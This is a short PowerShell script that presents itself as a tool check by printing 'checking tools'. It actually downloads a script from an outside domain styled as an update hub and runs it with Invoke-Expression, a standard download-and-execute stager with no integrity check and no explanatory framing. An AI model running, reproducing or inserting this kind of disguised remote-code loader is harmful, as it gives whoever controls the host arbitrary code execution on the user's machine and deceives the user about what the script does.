$client = New-Object System.Net.WebClient
$script = $client.DownloadString("https://win-tools.updatehub.dev/u.ps1")
Write-Host "checking tools"
Invoke-Expression $script
